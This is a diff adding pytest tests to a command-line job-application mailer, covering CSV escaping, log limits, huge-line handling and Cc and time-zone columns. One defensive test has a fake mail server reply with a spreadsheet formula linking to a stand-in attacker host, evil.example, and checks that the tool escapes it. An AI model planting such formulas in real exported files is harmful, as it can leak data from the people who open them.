@@ -13,7 +13,7 @@ import json
 import re
 import subprocess
 import sys
-from datetime import UTC, datetime, timedelta
+from datetime import UTC, datetime, timedelta, timezone
 from email.message import EmailMessage
 from email.policy import SMTP
 
@@ -22,6 +22,7 @@ from conftest import SCRUB, SEND_PY, WITHDRAW_ARGS, clean_environ
 
 from jobmail.cli import main
 from jobmail.cli.views import CSV_COLUMNS
+from jobmail.loopback import Recorder
 from jobmail.store.sentlog import SentLog, utc_now
 
 POSIX_ONLY = pytest.mark.skipif(sys.platform.startswith("win"), reason="TZ is read from the environment on POSIX")
@@ -534,3 +535,121 @@ def test_a_console_code_page_without_the_characters_never_crashes(make_account, 
     )
     assert as_csv.returncode == 0, as_csv.stderr
     assert "Analityk – Łódź" in as_csv.stdout.decode("utf-8")
+
+
+class FormulaReplies(Recorder):
+    """A server whose 250 reply is a spreadsheet formula."""
+
+    async def handle_DATA(self, server, session, envelope):
+        await super().handle_DATA(server, session, envelope)
+        return '250 =HYPERLINK("http://evil.example/?leak=1","click")'
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(make_account, password):
+    account = make_account("starttls", handler=FormulaReplies())
+    account.store_password(password)
+    sent = account.run(*WITHDRAW_ARGS[:-2], "--company=-Acme")
+    assert sent.returncode == 0, sent.stderr
+    result = account.run("log", "--csv")
+    assert result.returncode == 0, result.stderr
+    row = next(csv.DictReader(io.StringIO(result.stdout)))
+    assert row["reply_text"] == '\'=HYPERLINK("http://evil.example/?leak=1","click")'
+    assert row["reply_code"] == "250" and row["status"] == "sent"
+    for cell in row.values():
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+@pytest.mark.parametrize("limit", ["99999999999999999999999", "1000001"])
+def test_a_huge_limit_is_a_one_line_error(make_account, limit):
+    account = make_account("starttls")
+    result = account.run("log", "--limit", limit)
+    assert result.returncode == 2
+    expected = f"error: --limit {limit}: give at most 1000000; to see every message, use --all"
+    assert result.stderr.splitlines() == [expected]
+
+
+def _memory_cap() -> None:
+    """In the child: at most 256 MiB of address space (reading a 64 MiB line whole, then parsing it, needs more)."""
+    import resource
+
+    resource.setrlimit(resource.RLIMIT_AS, (256 << 20, 256 << 20))
+
+
+@pytest.mark.skipif(sys.platform.startswith("win"), reason="RLIMIT_AS is POSIX")
+@pytest.mark.parametrize("place", ["middle", "last"])
+def test_a_huge_line_in_the_log_is_skipped_with_a_warning_without_reading_it_whole(make_account, place):
+    account = make_account("starttls")
+    log = SentLog(account.log_dir)
+    log.append({"id": "aaa111111111", "status": "sent", "to": ["a@acme.example"], "cc": [], "subject": "Older"})
+    huge = b'{"id":"bbb222222222","time":"2026-01-01T00:00:00.000+00:00","status":"sent","subject":"'
+    huge += b"x" * (64 << 20) + b'"}\n'
+    with open(log.file, "ab") as f:
+        f.write(huge)
+    if place == "middle":
+        log.append({"id": "ccc333333333", "status": "sent", "to": ["c@acme.example"], "cc": [], "subject": "Newer"})
+    shown = {}
+    for args in (("log", "--all"), ("log", "--to", "acme"), ("log", "show", "aaa1")):
+        result = subprocess.run(
+            account.argv(args),
+            capture_output=True,
+            text=True,
+            env=account.env,
+            cwd=account.home,
+            timeout=60,
+            preexec_fn=_memory_cap,
+        )
+        assert result.returncode == 0, result.stderr[-2000:]
+        assert result.stderr.count("skipped a line of 67,108,") == 1, result.stderr[-2000:]
+        assert "xxxx" not in result.stdout + result.stderr
+        shown[args[1]] = result.stdout
+    assert "aaa11111" in shown["--all"] and "bbb22222" not in shown["--all"]
+    assert ("ccc33333" in shown["--to"]) == (place == "middle") and "aaa11111" in shown["--to"]
+    assert "Message aaa111111111: sent" in shown["show"]
+
+
+def test_log_to_matches_cc_and_the_table_shows_cc(make_account, password):
+    account = make_account("starttls")
+    account.store_password(password)
+    with_cc = account.run(*WITHDRAW_ARGS, "--cc", "Recruiter@Initech.example")
+    assert with_cc.returncode == 0, with_cc.stderr
+    without = account.run(*WITHDRAW_ARGS[:3], "sam@umbrella.example", *WITHDRAW_ARGS[4:])
+    assert without.returncode == 0, without.stderr
+    account.env["COLUMNS"] = "200"
+    found = account.run("log", "--to", "initech")
+    assert found.returncode == 0, found.stderr
+    header, *rows = [line for line in found.stdout.splitlines() if line.strip()][:-1]
+    assert header.split() == ["TIME", "STATUS", "TO", "CC", "SUBJECT", "ID"]
+    assert len(rows) == 1 and "jordan.lee@acme.example.com  Recruiter@initech.example  " in rows[0]
+    assert found.stdout.splitlines()[-1].startswith("1 message matching")
+    everything = account.run("log")
+    lines = everything.stdout.splitlines()
+    assert lines[0].split() == ["TIME", "STATUS", "TO", "CC", "SUBJECT", "ID"]
+    assert "umbrella" not in account.run("log", "--to", "initech", "--json").stdout
+    plain = account.run("log", "--to", "umbrella")
+    assert plain.stdout.splitlines()[0].split() == ["TIME", "STATUS", "TO", "SUBJECT", "ID"]  # no Cc: no column
+
+
+@POSIX_ONLY
+def test_csv_has_local_date_and_time_columns_and_the_job(make_account, password):
+    account = make_account("starttls")
+    account.store_password(password)
+    sent = account.run(*WITHDRAW_ARGS, "--cc", "hr@acme.example.com")
+    assert sent.returncode == 0, sent.stderr
+    older = {"id": "0ld000000000", "status": "sent", "to": ["sam@umbrella.example"], "cc": [], "subject": "Old"}
+    SentLog(account.log_dir).append(older, datetime(2026, 1, 31, 20, 30, 15, tzinfo=UTC))  # before the new fields
+    account.env["TZ"] = "KTM-5:45"  # a POSIX zone: UTC+05:45, no zone files needed
+    result = account.run("log", "--csv", "--all")
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert [row["id"] for row in rows] == ["0ld000000000", account.records()[-2]["id"]]
+    old, new = rows
+    assert (old["date"], old["local_time"], old["time"]) == ("2026-02-01", "02:15:15", "2026-01-31T20:30:15.000+00:00")
+    assert (old["company"], old["position"], old["template"]) == ("", "", "")
+    local = datetime.fromisoformat(new["time"]).astimezone(timezone(timedelta(hours=5, minutes=45)))
+    assert (new["date"], new["local_time"]) == (f"{local:%Y-%m-%d}", f"{local:%H:%M:%S}")
+    assert new["time"].endswith("+00:00")
+    assert (new["company"], new["position"], new["template"]) == ("Acme", "Data Analyst", "withdraw")
+    assert new["cc"] == "hr@acme.example.com"
+    shown = account.run("log", "show", new["id"][:8])
+    assert "Company:     Acme" in shown.stdout and "Position:    Data Analyst" in shown.stdout
+    assert "company:" not in shown.stdout  # shown once, not with each state
